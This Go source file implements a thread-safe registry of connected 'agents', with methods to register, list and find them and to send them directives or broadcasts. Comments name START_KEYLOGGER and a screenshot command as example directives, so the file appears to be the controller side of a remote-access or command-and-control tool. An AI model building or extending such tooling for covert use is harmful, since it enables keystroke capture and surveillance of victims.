// Package registry tracks connected agents and sends directives to them.
package registry

import (
	"errors"
	"fmt"
	"slices"
	"sync"
	"time"

	"github.com/pithecene-io/tether/types"
	"github.com/pithecene-io/tether/wire"
)

// ErrUnknownAgent is returned when a ConnID is not registered.
var ErrUnknownAgent = errors.New("unknown agent")

// Sender delivers bytes to one agent connection.
type Sender interface {
	Send(data []byte) error
}

// Agent is a connected agent. Values returned by Registry are snapshots;
// Roles is a private copy.
type Agent struct {
	ConnID      types.ConnID
	Addr        string
	Roles       []string
	ConnectedAt time.Time

	sender Sender
}

// Peer returns the agent's connection identity.
func (a Agent) Peer() types.Peer {
	return types.Peer{ConnID: a.ConnID, Addr: a.Addr}
}

// Record returns the persisted form of the agent.
func (a Agent) Record() types.AgentRecord {
	return types.AgentRecord{Addr: a.Peer().Host(), Roles: slices.Clone(a.Roles)}
}

// Send delivers data through the agent's connection.
func (a Agent) Send(data []byte) error {
	if a.sender == nil {
		return fmt.Errorf("agent %d: no sender", a.ConnID)
	}
	return a.sender.Send(data)
}

func (a *Agent) snapshot() Agent {
	c := *a
	c.Roles = slices.Clone(a.Roles)
	return c
}

// SendError reports a failed delivery to one agent during Broadcast.
type SendError struct {
	ConnID types.ConnID
	Addr   string
	Err    error
}

func (e *SendError) Error() string {
	return fmt.Sprintf("send to %s (conn %d): %v", e.Addr, e.ConnID, e.Err)
}

func (e *SendError) Unwrap() error {
	return e.Err
}

// Registry is the set of connected agents, keyed by ConnID.
// Thread-safe for concurrent access.
type Registry struct {
	mu     sync.RWMutex
	agents map[types.ConnID]*Agent
	nextID types.ConnID
	now    func() time.Time
}

// New creates an empty registry.
func New() *Registry {
	return &Registry{
		agents: make(map[types.ConnID]*Agent),
		nextID: 1,
		now:    time.Now,
	}
}

// Register assigns the next ConnID to a new agent at addr and adds it with
// the default role.
func (r *Registry) Register(addr string, sender Sender) Agent {
	r.mu.Lock()
	defer r.mu.Unlock()

	a := &Agent{
		ConnID:      r.nextID,
		Addr:        addr,
		Roles:       []string{types.DefaultRole},
		ConnectedAt: r.now(),
		sender:      sender,
	}
	r.nextID++
	r.agents[a.ConnID] = a
	return a.snapshot()
}

// Remove deletes the agent with id. It reports whether it was present.
func (r *Registry) Remove(id types.ConnID) bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	_, ok := r.agents[id]
	delete(r.agents, id)
	return ok
}

// Get returns a snapshot of the agent with id.
func (r *Registry) Get(id types.ConnID) (Agent, bool) {
	r.mu.RLock()
	defer r.mu.RUnlock()
	a, ok := r.agents[id]
	if !ok {
		return Agent{}, false
	}
	return a.snapshot(), true
}

// List returns a snapshot of all agents ordered by ConnID.
func (r *Registry) List() []Agent {
	r.mu.RLock()
	out := make([]Agent, 0, len(r.agents))
	for _, a := range r.agents {
		out = append(out, a.snapshot())
	}
	r.mu.RUnlock()

	slices.SortFunc(out, func(a, b Agent) int {
		switch {
		case a.ConnID < b.ConnID:
			return -1
		case a.ConnID > b.ConnID:
			return 1
		default:
			return 0
		}
	})
	return out
}

// Len returns the number of connected agents.
func (r *Registry) Len() int {
	r.mu.RLock()
	defer r.mu.RUnlock()
	return len(r.agents)
}

// Find returns the agent whose address matches addr, either the full
// "ip:port" or the IP alone. With several matches the lowest ConnID wins.
func (r *Registry) Find(addr string) (Agent, bool) {
	for _, a := range r.List() {
		if a.Addr == addr {
			return a, true
		}
	}
	for _, a := range r.List() {
		if a.Peer().Host() == addr {
			return a, true
		}
	}
	return Agent{}, false
}

// AddRole appends role to the agent's roles unless already present.
func (r *Registry) AddRole(id types.ConnID, role string) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	a, ok := r.agents[id]
	if !ok {
		return fmt.Errorf("%w: %d", ErrUnknownAgent, id)
	}
	if !slices.Contains(a.Roles, role) {
		a.Roles = append(a.Roles, role)
	}
	return nil
}

// Send delivers data to the agent with id. The send happens outside the lock.
func (r *Registry) Send(id types.ConnID, data []byte) error {
	a, ok := r.Get(id)
	if !ok {
		return fmt.Errorf("%w: %d", ErrUnknownAgent, id)
	}
	return a.Send(data)
}

// SendText sends a plain-text directive such as START_KEYLOGGER.
func (r *Registry) SendText(id types.ConnID, text string) error {
	return r.Send(id, []byte(text))
}

// SendCommand sends a structured request such as {"type": "screenshoot"}.
func (r *Registry) SendCommand(id types.ConnID, t types.MessageType) error {
	data, err := wire.EncodeCommand(t)
	if err != nil {
		return err
	}
	return r.Send(id, data)
}

// Broadcast sends data to every agent in a snapshot taken under the lock.
// Sends happen outside the lock and a failure does not stop the rest.
func (r *Registry) Broadcast(data []byte) []*SendError {
	var errs []*SendError
	for _, a := range r.List() {
		if err := a.Send(data); err != nil {
			errs = append(errs, &SendError{ConnID: a.ConnID, Addr: a.Addr, Err: err})
		}
	}
	return errs
}
